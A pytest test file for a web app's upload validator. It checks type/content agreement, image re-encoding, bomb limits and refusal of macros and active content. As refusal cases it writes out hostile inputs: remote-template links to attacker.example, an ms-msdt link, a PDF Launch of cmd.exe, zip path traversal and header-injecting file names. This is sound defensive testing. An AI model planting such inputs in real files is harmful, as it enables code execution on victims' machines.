"""check_upload: C1 (type and content agree), C2 (images re-encoded), C4 (bombs), C6 (names).

Every refusal is asserted with its code and a message that names the file as shown. Bounds are
asserted structurally (bytes read, bytes inflated, parts never opened), not by timing.
"""
import hashlib
import io
import zipfile

import pytest
from PIL import Image, PngImagePlugin

from app.commands import CommandError
from app.storage.local import LocalDiskStorage
from app.uploads import Budget, UploadRejected, check_upload, documents, images, pdf
from tests.fixtures.uploads import samples

ALL = ["jpg", "jpeg", "png", "pdf", "doc", "docx", "xls", "xlsx"]
MB = 1024 * 1024


def check(data: bytes, name: str, accept=ALL, max_bytes=5 * MB):
    return check_upload(io.BytesIO(data), name, accept, max_bytes)


def refused(data: bytes, name: str, code: str, shown: str | None = None, **kw) -> str:
    """Assert a refusal with ``code`` whose message names the file; return the message."""
    with pytest.raises(UploadRejected) as caught:
        check(data, name, **kw)
    message = str(caught.value)
    assert caught.value.code == code, message
    assert (shown or name) in message
    return message


class CountingStream(io.RawIOBase):
    """An endless stream of zeros that counts what was read from it."""

    def __init__(self):
        self.consumed = 0

    def read(self, size=-1):
        size = 1 << 30 if size is None or size < 0 else size
        self.consumed += size
        return bytes(size)


# --- the rejection itself -------------------------------------------------------------------
def test_rejection_is_a_command_error_with_an_http_status():
    assert issubclass(UploadRejected, CommandError)
    assert UploadRejected("too_large", "x").status == 413
    assert UploadRejected("type", "x").status == UploadRejected("content", "x").status == 422
    with pytest.raises(ValueError):
        UploadRejected("virus", "x")


def test_too_large_reads_no_more_than_the_limit_plus_one():
    stream = CountingStream()
    with pytest.raises(UploadRejected) as caught:
        check_upload(stream, "scan.pdf", ALL, 5 * MB)
    assert caught.value.code == "too_large" and "scan.pdf" in str(caught.value)
    assert "5 MB" in str(caught.value)
    assert stream.consumed == 5 * MB + 1


def test_a_file_of_exactly_the_limit_passes_and_an_empty_one_does_not():
    data = samples.pdf()
    assert check(data, "a.pdf", max_bytes=len(data)).size == len(data)
    refused(b"", "empty.pdf", "content")


# --- C1: extension and content must agree ----------------------------------------------------
@pytest.mark.parametrize("data, name", [
    (samples.SVG, "drawing.png"),
    (samples.PHP, "shell.jpg"),
    (samples.PHP, "shell.php.jpg"),
    (samples.HTML, "page.pdf"),
    (samples.png(), "photo.jpg"),          # a PNG named .jpg: same kind of thing, wrong family
    (samples.jpeg(), "photo.png"),
    (samples.gif(), "anim.png"),
    (samples.pdf(), "letter.docx"),
    (samples.xlsx(), "table.docx"),        # a zip, but a workbook
    (samples.doc(), "letter.xls"),         # an OLE file, but a Word document
    (b"MZ\x90\x00" + bytes(600), "setup.doc"),
])
def test_content_that_is_not_what_the_extension_says_is_refused(data, name):
    refused(data, name, "type")


@pytest.mark.parametrize("name, accept", [
    ("photogpj.exe", ALL), ("notes.txt", ALL), ("noextension", ALL), ("scan.png", ["pdf"]),
])
def test_extensions_outside_the_accepted_list_are_refused(name, accept):
    message = refused(samples.png(), name, "type", accept=accept)
    # As the materials page lists them: the definition's order, upper case.
    assert ", ".join(kind.upper() for kind in accept if kind in ALL) in message


def test_jpg_and_jpeg_are_one_family_and_case_does_not_matter():
    assert check(samples.jpeg(), "SCAN.JPEG", accept=["jpg"]).extension == "jpeg"
    assert check(samples.jpeg(), "scan.Jpg", accept=["jpeg"]).content_type == "image/jpeg"


def test_a_double_extension_is_judged_by_its_content():
    checked = check(samples.jpeg(), "x.php.jpg")
    assert (checked.extension, checked.content_type) == ("jpg", "image/jpeg")


@pytest.mark.parametrize("data, name, content_type", [
    (samples.pdf(), "a.pdf", "application/pdf"),
    (samples.docx(), "a.docx",
     "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
    (samples.xlsx(), "a.xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
    (samples.doc(), "a.doc", "application/msword"),
    (samples.xls(), "a.xls", "application/vnd.ms-excel"),
])
def test_documents_are_stored_as_uploaded_with_a_server_chosen_type(data, name, content_type):
    checked = check(data, name)
    assert (checked.data, checked.content_type, checked.size) == (data, content_type, len(data))
    assert checked.sha256 == hashlib.sha256(data).hexdigest()


# --- C6: hostile names are data --------------------------------------------------------------
@pytest.mark.parametrize("name, shown", [
    ("../../x.pdf", "../../x.pdf"),
    ("CON.pdf", "CON.pdf"),
    ("x\u202egnp.pdf", "xgnp.pdf"),          # RTL override removed
    ("a\r\nSet-Cookie: b.pdf", "a Set-Cookie: b.pdf"),  # control characters: one space
    ("e\u0301tat.pdf", "\u00e9tat.pdf"),      # NFC
    ("出生证明.pdf", "出生证明.pdf"),
    ("名" * 100 + ".pdf", "名" * 100 + ".pdf"),  # 304 bytes, 104 characters: kept
])
def test_hostile_names_are_kept_as_display_data(name, shown):
    assert check(samples.pdf(), name).original_name == shown


def test_long_names_are_cut_to_200_characters_keeping_the_extension():
    checked = check(samples.pdf(), "a" * 296 + ".pdf")
    assert len(checked.original_name) == 200 and checked.original_name.endswith("a.pdf")


def test_an_rtl_override_cannot_disguise_the_extension():
    message = refused(samples.png(), "photo\u202egpj.exe", "type", shown="photogpj.exe")
    assert "\u202e" not in message


def test_a_nul_in_the_name_is_refused():
    refused(samples.pdf(), "x.pdf\x00.jpg", "type", shown="x.pdf .jpg")


# --- C2: images are re-encoded ---------------------------------------------------------------
def test_jpeg_loses_exif_and_gps_and_is_turned_upright():
    original = samples.jpeg(size=(64, 48), orientation=6)
    assert b"SpyCam" in original and Image.open(io.BytesIO(original)).getexif().get_ifd(0x8825)
    checked = check(original, "id-card.jpg")
    stored = Image.open(io.BytesIO(checked.data))
    assert stored.format == "JPEG" and stored.size == (48, 64)
    assert dict(stored.getexif()) == {} and b"Exif" not in checked.data
    assert b"SpyCam" not in checked.data
    assert checked.sha256 == hashlib.sha256(checked.data).hexdigest()
    assert checked.size == len(checked.data)


def test_png_loses_text_and_exif_chunks():
    original = samples.png()
    assert b"Secret Road" in original and b"eXIf" in original
    checked = check(original, "scan.png")
    assert b"Secret Road" not in checked.data and b"eXIf" not in checked.data
    assert b"tEXt" not in checked.data and Image.open(io.BytesIO(checked.data)).size == (40, 30)


def test_a_payload_appended_to_an_image_is_not_stored():
    checked = check(samples.jpeg() + samples.PHP, "polyglot.jpg")
    assert samples.PHP not in checked.data


def test_the_stored_bytes_are_the_hashed_bytes(tmp_path):
    checked = check(samples.jpeg(), "a.jpg")
    storage = LocalDiskStorage(tmp_path)
    with storage.open(storage.save(checked.data)) as handle:
        assert hashlib.sha256(handle.read()).hexdigest() == checked.sha256


def test_an_image_that_grows_past_the_limit_when_re_encoded_is_refused():
    noisy = Image.effect_noise((256, 256), 80).convert("RGB")
    out = io.BytesIO()
    noisy.save(out, "JPEG", quality=10)
    refused(out.getvalue(), "noise.jpg", "too_large", max_bytes=len(out.getvalue()))


def test_a_damaged_image_is_refused():
    refused(samples.jpeg()[:200], "cut.jpg", "content")


# --- C4: bombs are refused within bounds -----------------------------------------------------
def test_a_pixel_bomb_is_refused_before_any_pixel_is_decoded(monkeypatch):
    def no_decoding(self):
        raise AssertionError("pixels decoded")
    monkeypatch.setattr(PngImagePlugin.PngImageFile, "load", no_decoding)
    message = refused(samples.png_bomb(30000, 30000), "bomb.png", "content")
    assert "30000" in message


def test_a_big_jpeg_is_decoded_at_reduced_scale_and_other_big_images_refused(monkeypatch):
    monkeypatch.setattr(images, "MAX_PIXELS", 1000)  # 64 × 48 = 3072 pixels
    checked = check(samples.jpeg(size=(64, 48)), "big.jpg")
    assert Image.open(io.BytesIO(checked.data)).size == (32, 24)
    refused(samples.png(size=(64, 48)), "big.png", "content")


def test_a_jpeg_with_too_many_scans_is_refused():
    refused(samples.jpeg() + b"\xff\xda" * 101, "slow.jpg", "content")


def test_the_inflate_budget_stops_at_its_cap():
    budget = Budget(MB)
    with pytest.raises(OverflowError):
        budget.inflate(__import__("zlib").compress(bytes(10 * MB)))
    assert budget.used == MB + 1


def test_a_pdf_object_stream_bomb_stops_at_the_budget(monkeypatch):
    budgets = []

    class Recorded(Budget):
        def __init__(self, cap):
            super().__init__(cap)
            budgets.append(self)
    monkeypatch.setattr(pdf, "MAX_INFLATED", MB)
    monkeypatch.setattr(pdf, "Budget", Recorded)
    refused(samples.pdf_object_stream_bomb(4 * MB), "bomb.pdf", "content")
    assert budgets[0].cap == MB and budgets[0].used == MB + 1


def test_a_zip_bomb_is_refused_from_its_directory_without_inflating(monkeypatch):
    bomb = samples.docx_bomb(200)
    assert len(bomb) < 2 * MB
    opened = []
    real_open = zipfile.ZipFile.open
    monkeypatch.setattr(zipfile.ZipFile, "open",
                        lambda self, name, *a, **k: opened.append(str(name)) or real_open(
                            self, name, *a, **k))
    refused(bomb, "bomb.docx", "content")
    assert opened == []


def test_a_zip_with_more_than_1000_entries_is_refused():
    parts = {f"word/media/p{i}.txt": b"x" for i in range(1001)}
    refused(samples.docx(parts), "many.docx", "content")


def test_an_xls_with_endless_records_is_refused(monkeypatch):
    monkeypatch.setattr(documents, "MAX_BIFF_RECORDS", 2)
    refused(samples.xls(), "long.xls", "content")


def test_a_pdf_dictionary_longer_than_any_real_one_is_refused():
    padded = samples.pdf_with_objects(
        catalog=b"<< /Type /Catalog /Pages 2 0 R /Pad [" + b"0 " * (MB // 2 + 1) + b"] >>",
        compressed=())
    refused(padded, "padded.pdf", "content")


# --- PDF: active content, encryption ---------------------------------------------------------
CATALOG_WITH_ACTION = b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>"


@pytest.mark.parametrize("data", [
    pytest.param(samples.pdf(javascript="app.alert(1)"), id="open-action-javascript"),
    pytest.param(samples.pdf(attachment=("invoice.exe", b"MZ")), id="embedded-file"),
    pytest.param(samples.pdf_with_objects(CATALOG_WITH_ACTION, compressed=(),
                                          extra={4: b"<< /S /Launch /F (cmd.exe) >>"}),
                 id="launch"),
    pytest.param(samples.pdf_with_objects(CATALOG_WITH_ACTION, compressed=(),
                                          extra={4: b"<< /S /J#61vaScript /JS (x) >>"}),
                 id="hex-escaped-name"),
    pytest.param(samples.pdf_with_objects(
        b"<< /Type /Catalog /Pages 2 0 R /AA << /WC 4 0 R >> >>", compressed=(),
        extra={4: b"<< /S /GoTo /D [3 0 R /Fit] >>"}), id="additional-actions"),
    pytest.param(samples.pdf_with_objects(CATALOG_WITH_ACTION, compressed=(1, 2, 3, 4),
                                          extra={4: b"<< /S /JavaScript /JS (x) >>"}),
                 id="javascript-in-object-stream"),
    pytest.param(samples.pdf_with_objects(
        CATALOG_WITH_ACTION, compressed=(1, 2, 3, 4), wrap_in=5,
        extra={4: b"<< /S /JavaScript /JS (x) >>", 5: b""}),
        id="object-stream-hidden-in-image-data"),
    pytest.param(samples.object_stream_pdf(
        b"/Note (1 0 obj) /Pad (>> stream\n)", b"<< /S /JavaScript /JS (x) >>"),
        id="object-stream-dictionary-with-decoy-keywords-in-strings"),
])
def test_pdfs_with_active_content_are_refused(data):
    assert "scripts" in refused(data, "report.pdf", "content")


@pytest.mark.parametrize("data", [
    pytest.param(samples.pdf_with_objects(), id="object-streams"),
    pytest.param(samples.scanned_pdf(), id="scanned-pages"),
])
def test_pdfs_without_active_content_are_accepted(data):
    assert check(data, "report.pdf").data == data


def test_short_names_inside_stream_data_do_not_count():
    # Three bytes "/JS" in image data are noise, not an action.
    image = (b"<< /Type /XObject /Subtype /Image /Width 1 /Height 1 /BitsPerComponent 8 "
             b"/ColorSpace /DeviceGray /Length 9 >>\nstream\n\x00/JS /AA\x00\nendstream")
    data = samples.pdf_with_objects(compressed=(), extra={4: image})
    assert check(data, "scan.pdf").data == data


@pytest.mark.parametrize("stream_dictionary", [
    b"/Filter /ASCIIHexDecode", b"/Filter /FlateDecode /DecodeParms << /Predictor 12 >>"])
def test_object_streams_in_unusual_encodings_are_refused(stream_dictionary):
    data = (b"%PDF-1.7\n1 0 obj\n<< /Type /ObjStm /N 1 /First 4 " + stream_dictionary
            + b" /Length 4 >>\nstream\nabcd\nendstream\nendobj\nstartxref\n0\n%%EOF\n")
    assert "too complex" in refused(data, "odd.pdf", "content")


def test_an_encrypted_pdf_asks_for_an_unencrypted_copy():
    assert "unprotected" in refused(samples.pdf(password="secret"), "locked.pdf", "content")


def test_a_pdf_without_an_end_marker_is_refused():
    refused(samples.pdf().replace(b"%%EOF", b"%%END"), "cut.pdf", "content")
    refused(samples.pdf().replace(b"startxref", b"startxxx"), "cut.pdf", "content")


# --- DOCX / XLSX -----------------------------------------------------------------------------
def settings_rels(*relationships):
    return {"word/_rels/settings.xml.rels": samples.rels(*relationships)}


@pytest.mark.parametrize("parts, code, words", [
    ({"word/vbaProject.bin": b"VBA"}, "content", "macros"),
    ({"word/_rels/vbaProject.bin.rels": samples.rels(("vbaProject", "x.bin", None))},
     "content", "macros"),
    (settings_rels(("attachedTemplate", "http://attacker.example/t.dotm", "External")),
     "content", "outside"),
    ({"word/_rels/settings.xml.RELS": samples.rels(
        ("attachedTemplate", "\\\\attacker\\share\\t.dotm", "External"))}, "content", "outside"),
    (settings_rels(("oleObject", "mhtml:http://attacker.example/!x", "External")),
     "content", "outside"),
    (settings_rels(("hyperlink", "file:///C:/Windows/System32/calc.exe", "External")),
     "content", "outside"),
    (settings_rels(("hyperlink", "ms-msdt:/id PCWDiagnostic", "External")), "content", "outside"),
    ({"../../evil.txt": b"x"}, "content", "unsafe"),
    ({"/etc/cron.d/x": b"x"}, "content", "unsafe"),
    ({"word\\..\\..\\x.txt": b"x"}, "content", "unsafe"),
    ({"C:/x.txt": b"x"}, "content", "unsafe"),
    ({"WORD/document.xml": b"<x/>"}, "content", "unsafe"),  # a second main part
    ({"word/_rels/x.rels": b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "aaaa">]>'
                           b"<Relationships>&a;</Relationships>"}, "content", "damaged"),
])
def test_unsafe_word_documents_are_refused(parts, code, words):
    assert words in refused(samples.docx(parts), "letter.docx", code)


def test_a_macro_enabled_content_type_is_refused():
    data = samples.docx(main_type=b"application/vnd.ms-word.document.macroEnabled.main+xml")
    assert "macros" in refused(data, "letter.docx", "content")


def test_web_and_mail_hyperlinks_are_allowed():
    data = samples.docx(document_rels=samples.rels(
        ("hyperlink", "https://www.nhsa.gov.cn/", "External"),
        ("hyperlink", "mailto:office@example.cn", "External"),
        ("styles", "styles.xml", None)))
    assert check(data, "letter.docx").data == data


def test_excel_macro_sheets_are_refused():
    data = samples.xlsx({"xl/macrosheets/sheet1.xml": b"<xm:macrosheet/>"})
    assert "macros" in refused(data, "table.xlsx", "content")


def test_a_zip_that_is_not_an_office_document_is_refused():
    refused(samples.zip_of({"readme.txt": b"hello"}), "letter.docx", "content")


# --- DOC / XLS (OLE2) ------------------------------------------------------------------------
@pytest.mark.parametrize("data, name, words", [
    (samples.doc(macros=True), "letter.doc", "macros"),
    (samples.ole({"WordDocument": bytes(12)}, storages=("_VBA_PROJECT_CUR",)), "a.doc",
     "macros"),
    (samples.xls(macro_sheet=True), "table.xls", "macros"),
    (samples.doc(encrypted=True), "letter.doc", "unprotected"),
    (samples.ole({"EncryptedPackage": b"x", "EncryptionInfo": b"y"}), "letter.docx",
     "unprotected"),
    (samples.ole({"Contents": b"x"}), "letter.doc", "damaged"),
])
def test_unsafe_or_unreadable_ole_files_are_refused(data, name, words):
    assert words in refused(data, name, "content")
